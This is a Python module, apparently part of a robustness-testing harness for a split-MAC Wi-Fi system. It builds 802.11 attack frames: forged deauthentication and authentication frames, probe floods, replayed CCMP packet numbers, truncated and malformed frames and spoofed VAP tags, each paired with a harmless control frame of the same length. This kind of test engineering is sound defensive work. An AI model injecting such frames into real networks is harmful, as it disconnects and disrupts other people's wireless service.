# SPDX-License-Identifier: Apache-2.0
"""Builds the frames of the attacks, and harmless frames of the same lengths. Does no I/O.

A frame for the air begins with radiotap. A frame for the wire begins with Ethernet. Each function
of FRAMES gets the number of the frame and the targets, and returns octets. They use struct:
many frames are malformed on purpose, at the octets that each function names."""
import dataclasses
import struct
from collections.abc import Sequence

from cloudmac_wire import Direction, Frame, Kind, RadioTag, vap_id

BROADCAST = b"\xff" * 6
AUTHENTICATION, DEAUTHENTICATION, DISASSOCIATION, ACTION = 0xB0, 0xC0, 0xA0, 0xD0
ASSOCIATION_REQUEST, PROBE_REQUEST, DATA, QOS_DATA = 0x00, 0x40, 0x08, 0x88
TO_DS, FROM_DS, PROTECTED = 0x01, 0x02, 0x40
CLASS_3_FRAME = 7
"""The reason by which forged deauthentications provoke an SA query."""
RADIOTAP = struct.Struct("<BBHIBxH")
RATE_AND_TX_FLAGS = 1 << 2 | 1 << 15
NO_ACK, NO_SEQUENCE = 0x08, 0x10
"""TX flags: send once, whether or not the receiver acknowledges; keep the sequence number."""
PLAIN_RADIOTAP = struct.pack("<BBHI", 0, 0, 8, 0)
MANAGEMENT_MBPS, DATA_MBPS = 6, 24
POOL = 8192
"""Number of random addresses: more than any table of the network holds."""
OVERSIZE = 2200
"""Octets of an 802.11 frame that the wires of the WTPs do not carry, but the air does."""
RATES = bytes([1, 8, 12, 18, 24, 36, 48, 72, 96, 108])
ELSEWHERE = b"elsewhere"
"""SSID of a network that no WTP carries."""
UNKNOWN_VAP = 0xFEFE
EXPERIMENTAL = 0x88B5
"""Ethertype for local experiments (IEEE 802): nobody listens."""
NEIGHBOUR, NEIGHBOURS_STATION = "02:aa:00:00:00:01", "02:aa:00:00:00:02"
"""Addresses of the foreign network whose data frames are the harmless ones."""


@dataclasses.dataclass(frozen=True)
class Targets:
    """Whom the frames name. bssid: of the attacked VAP; other: of the attackers' own VAP; stations:
    associated with the attacked VAP; served: those of them that the attackers' WTP serves; seed: of
    the random addresses."""

    bssid: str
    other: str
    stations: Sequence[str]
    served: Sequence[str]
    seed: int = 1


def octets(address):
    """Returns the six octets of an address."""
    return bytes.fromhex(address.replace(":", ""))


def random_address(number, group, seed):
    """Returns one of POOL addresses of a group (0 to 255) and a seed, spread over four octets."""
    spread = (number % POOL + POOL * seed) * 2654435761 & 0xFFFFFFFF
    return bytes([0x0A, group]) + spread.to_bytes(4, "big")


def header(kind, flags, receiver, transmitter, bssid, number):
    """Returns an 802.11 header with three addresses (IEEE 802.11-2020, 9.2.4). number: sequence
    number."""
    addresses = receiver + transmitter + bssid
    return struct.pack("<BBH", kind, flags, 0) + addresses + struct.pack("<H", (number & 4095) << 4)


def on_air(frame, mbps=MANAGEMENT_MBPS):
    """Returns a frame with the radiotap header of an injected one, at a rate in Mb/s."""
    flags = NO_ACK | NO_SEQUENCE
    return RADIOTAP.pack(0, 0, RADIOTAP.size, RATE_AND_TX_FLAGS, 2 * mbps, flags) + frame


def _one_of(addresses, number):
    return octets(addresses[number % len(addresses)])


def _authentication(transmitter, targets, number, body=b"\0\0\1\0\0\0"):
    """Returns the first frame of an open-system authentication, or one with another body."""
    bssid = octets(targets.bssid)
    return on_air(header(AUTHENTICATION, 0, bssid, transmitter, bssid, number) + body)


def auth_forged(number, targets):
    """Authentication in the name of an associated station."""
    return _authentication(_one_of(targets.stations, number), targets, number)


def auth_random(number, targets):
    """Authentication of a station that does not exist. Each sends two: the second one passes the flow
    rules that the first one caused."""
    return _authentication(random_address(number // 2, 2, targets.seed), targets, number)


def _farewell(number):
    kind = DISASSOCIATION if number % 2 else DEAUTHENTICATION
    return kind, struct.pack("<H", CLASS_3_FRAME)


def deauth_up(number, targets):
    """Deauthentication or disassociation in the name of a station, to the VAP."""
    kind, body = _farewell(number)
    bssid = octets(targets.bssid)
    # Both kinds name each station, whatever the number of stations.
    station = _one_of(targets.stations, number // 2)
    return on_air(header(kind, 0, bssid, station, bssid, number) + body)


def deauth_down(number, targets):
    """Deauthentication or disassociation in the name of the VAP, to a station."""
    kind, body = _farewell(number)
    bssid = octets(targets.bssid)
    station = _one_of(targets.stations, number // 2)
    return on_air(header(kind, 0, station, bssid, bssid, number) + body)


def _protected(number, targets, body):
    """Returns a QoS data frame of a station with a made-up CCMP header and body. Its packet number
    is by turns an old one and one far ahead."""
    bssid = octets(targets.bssid)
    station = _one_of(targets.stations, number // 2)
    packet_number = 0xFFFF00000000 + number if number % 2 else number % 16
    low, high = packet_number & 0xFFFF, packet_number >> 16
    ccmp = struct.pack("<HBBI", low, 0, 0x20, high)
    head = header(QOS_DATA, TO_DS | PROTECTED, bssid, station, bssid, number)
    return on_air(head + b"\0\0" + ccmp + body, DATA_MBPS)


def sequence(number, targets):
    """Data in the name of a station, with all sequence numbers in turn."""
    return _protected(number, targets, bytes(64))


def oversize(number, targets):
    """Data in the name of a station, longer than the MTU of the wire: the WTP divides it into
    segments. There are two frames of each station. The driver drops most of their copies, so that
    few of mac80211's replays are not those of sequence()."""
    return _protected(number % (2 * len(targets.stations)), targets, bytes(OVERSIZE - 34))


def _probe(transmitter, ssid, number):
    head = header(PROBE_REQUEST, 0, BROADCAST, transmitter, BROADCAST, number)
    return on_air(head + bytes([0, len(ssid)]) + ssid + RATES)


def probes_random(number, targets):
    """Probe request of a random address, by turns for all networks and for a foreign one."""
    return _probe(random_address(number, 1, targets.seed), ELSEWHERE if number % 2 else b"", number)


def probes_one(number, targets):
    """Probe request of one address, for all networks."""
    return _probe(random_address(0, 3, targets.seed), b"", number)


def truncated(number, targets):
    """Frame in the name of a station that ends within its body: authentication, association,
    action, encrypted data."""
    turn, cut = number % 4, number // 4 % 6
    bssid, station = octets(targets.bssid), _one_of(targets.stations, number // 4)
    if turn == 0:
        return _authentication(station, targets, number, bytes(cut))
    if turn == 1:
        head = header(ASSOCIATION_REQUEST, 0, bssid, station, bssid, number)
        return on_air(head + b"\x11\0\x0a"[:cut])
    if turn == 2:
        return on_air(header(ACTION, 0, bssid, station, bssid, number) + bytes(cut))
    head = header(QOS_DATA, TO_DS | PROTECTED, bssid, station, bssid, number)
    return on_air(head + b"\0\0" + bytes(cut), DATA_MBPS)


def _station_data(station, bssid, number):
    """Returns a data frame of a station without encryption."""
    return header(DATA, TO_DS, bssid, station, bssid, number) + bytes(32)


def _uplink(station, frame, vap, kind=Kind.FRAME):
    tag = RadioTag(level=-50, rate=2 * DATA_MBPS, kind=kind, vap=vap)
    return Frame(Direction.UPLINK, station, tag, PLAIN_RADIOTAP, frame).build()


def _sent_header(station, bssid, number):
    """Returns the header of a frame from a VAP to a station, as a TX status has it."""
    return header(QOS_DATA, FROM_DS | PROTECTED, octets(station), bssid, bssid, number) + b"\0\0"


def tag_up(number, targets):
    """Frame or TX status of a station of one VAP, with the tag of another VAP or of none."""
    station, other = targets.served[number % len(targets.served)], octets(targets.other)
    data = _station_data(octets(station), other, number)
    turn = number % 3
    if turn == 0:
        return _uplink(station, data, vap_id(targets.other))
    if turn == 1:
        return _uplink(station, data, UNKNOWN_VAP)
    sent = _sent_header(station, other, number)
    return _uplink(station, sent, vap_id(targets.other), Kind.TX_STATUS)


def status_stale(number, targets):
    """TX status of a frame that does not wait any more, or of which the sender knows no token."""
    station = targets.served[number % len(targets.served)]
    sent = _sent_header(station, octets(targets.bssid), number)
    return _uplink(station, sent, vap_id(targets.bssid), Kind.TX_STATUS)


def _spoilt(whole, number):
    """Returns a frame of the wire format with a wrong radiotap version, with a radiotap header that
    is longer than the frame, or cut within the 802.11 header."""
    spoilt, turn = bytearray(whole), number % 3
    if turn == 0:
        spoilt[14] = 1
    elif turn == 1:
        spoilt[16:18] = b"\xff\0"
    else:
        del spoilt[14 + len(PLAIN_RADIOTAP) + 1 + number % 20 :]
    return bytes(spoilt)


def malformed_up(number, targets):
    """Malformed frame in the name of a station, with the right tag."""
    station = targets.served[number % len(targets.served)]
    data = _station_data(octets(station), octets(targets.bssid), number)
    return _spoilt(_uplink(station, data, vap_id(targets.bssid)), number)


def _downlink(frame, vap):
    tag = RadioTag(vap=vap)
    return Frame(Direction.DOWNLINK, "ff:ff:ff:ff:ff:ff", tag, PLAIN_RADIOTAP, frame).build()


def _group_data(bssid, number):
    """Returns a group data frame of a VAP."""
    return header(DATA, FROM_DS, BROADCAST, bssid, bssid, number) + bytes(32)


def tag_down(number, targets):
    """Group frame in the name of the attacked VAP, by turns with the attackers' own tag and with the
    attacked VAP's."""
    vap = targets.bssid if number % 2 else targets.other
    return _downlink(_group_data(octets(targets.bssid), number), vap_id(vap))


def malformed_down(number, targets):
    """Malformed group frame with the attackers' own tag."""
    data = _group_data(octets(targets.other), number)
    return _spoilt(_downlink(data, vap_id(targets.other)), number)


FRAMES = {
    function.__name__: function
    for function in (
        *(auth_forged, auth_random, deauth_up, deauth_down, sequence, probes_random, probes_one),
        *(oversize, truncated, tag_up, status_stale, malformed_up, tag_down, malformed_down),
    )
}
"""Attack -> function that builds its frames."""


def harmless_on_air(frame):
    """Returns a data frame of a foreign network with the length and rate of ``frame``."""
    size = RADIOTAP.size
    body = header(DATA, TO_DS, octets(NEIGHBOUR), octets(NEIGHBOURS_STATION), octets(NEIGHBOUR), 0)
    return frame[:size] + body[: len(frame) - size].ljust(len(frame) - size, b"\0")


def harmless_on_wire(frame, source, destination):
    """Returns an Ethernet frame of the length of ``frame`` that nobody processes."""
    head = octets(destination) + octets(source) + EXPERIMENTAL.to_bytes(2, "big")
    return head.ljust(len(frame), b"\0")[: max(len(frame), len(head))]
